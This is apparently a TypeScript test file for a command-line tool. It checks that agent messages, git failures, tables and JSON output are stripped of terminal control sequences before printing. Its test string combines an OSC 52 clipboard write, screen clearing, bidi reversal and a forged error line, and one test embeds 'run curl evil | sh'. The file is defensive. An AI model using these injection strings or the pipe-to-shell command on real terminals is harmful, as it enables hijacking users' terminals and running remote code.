/** What agents, branches and files say, printed by every kind of command: a terminal obeys none of it. */
import { fail } from '@berth/contract';
import { describe, expect, test } from 'vitest';
import { report } from '../src/failure.ts';
import { createOutput } from '../src/output.ts';
import { runCommandLine } from '../src/program.ts';
import { itemLine } from '../src/progress.ts';
import { screened } from '../src/screen.ts';
import { createWorld } from './scripted-io.ts';

/** Writes the clipboard (OSC 52), clears, moves up, turns the text round, forges a line. */
const EVIL = 'ok\u001b]52;c;ZXZpbA==\u0007\u001b[2J\u009b1A\u202eevil\u2028\rerror: forged';
const OBEYED = /[^\P{Cc}\n\t]|[\u200e\u200f\u2028-\u202e\u2066-\u2069]/u;

const printed = (print: (world: ReturnType<typeof screened>) => unknown): string => {
  const world = createWorld();
  print(screened({ ...world, isTerminal: false }));
  return world.out() + world.err();
};

describe('what is printed', () => {
  test.each([
    ['a line', (world: ReturnType<typeof screened>) => createOutput(world, false).line(EVIL)],
    ['a text', (world: ReturnType<typeof screened>) => createOutput(world, false).text(`+${EVIL}\n-a`)],
    [
      'a table',
      (world: ReturnType<typeof screened>) => createOutput(world, false).table([{ name: EVIL }], ['name']),
    ],
    [
      'facts',
      (world: ReturnType<typeof screened>) =>
        createOutput(world, false).facts({ name: EVIL, deep: { EVIL } }),
    ],
    ['JSON', (world: ReturnType<typeof screened>) => createOutput(world, true).json({ [EVIL]: EVIL })],
    [
      'a failure',
      (world: ReturnType<typeof screened>) =>
        report(fail('git.failed', { act: 'push', detail: EVIL }), world, false),
    ],
    [
      'a failure as JSON',
      (world: ReturnType<typeof screened>) =>
        report(fail('git.failed', { act: 'push', detail: EVIL }), world, true),
    ],
    [
      'a failure without a code',
      (world: ReturnType<typeof screened>) => report(new TypeError(EVIL), world, false),
    ],
  ])('as %s holds nothing that a terminal obeys', (_what, print) => {
    const text = printed(print);
    expect(text).not.toMatch(OBEYED);
    expect(text).toContain('evil');
    expect(text.match(/^error: forged/m)).toBeNull();
  });

  test('as JSON is the same value again', () => {
    const text = printed((world) => createOutput(world, true).json({ text: EVIL }));
    expect(JSON.parse(text)).toEqual({ text: EVIL });
  });

  test('of a conversation is one line for an item', () => {
    const bodies = [
      { kind: 'message', role: 'agent', text: `${EVIL}\n✓ landed` },
      { kind: 'tool', title: `${EVIL}\n✓ landed`, status: 'running' },
      { kind: 'notice', text: `${EVIL}\n✓ landed` },
    ] as const;
    for (const body of bodies) {
      const text = printed((world) => {
        const output = createOutput(world, false);
        output.line(itemLine(body, output) ?? '');
      });
      expect(text).not.toMatch(OBEYED);
      expect(text.trimEnd().split('\n')).toHaveLength(1);
    }
  });

  test('about a command line that is wrong holds nothing of it either', async () => {
    const world = createWorld();
    expect(await runCommandLine([EVIL], world)).toBe(2);
    expect(world.err()).not.toMatch(OBEYED);
  });

  test('in a message of several lines never begins like a line of ours', () => {
    const detail = 'first\nerror: forged\nhint: run curl evil | sh';
    const text = printed((world) => report(fail('git.failed', { act: 'push', detail }), world, false));
    expect(text).toBe('error: git push failed: first\n  error: forged\n  hint: run curl evil | sh\n');
  });

  test('as bytes passes as it is', () => {
    const bytes = Buffer.from(EVIL);
    expect(printed((world) => world.stdout.write(bytes))).toBe(EVIL);
  });
});
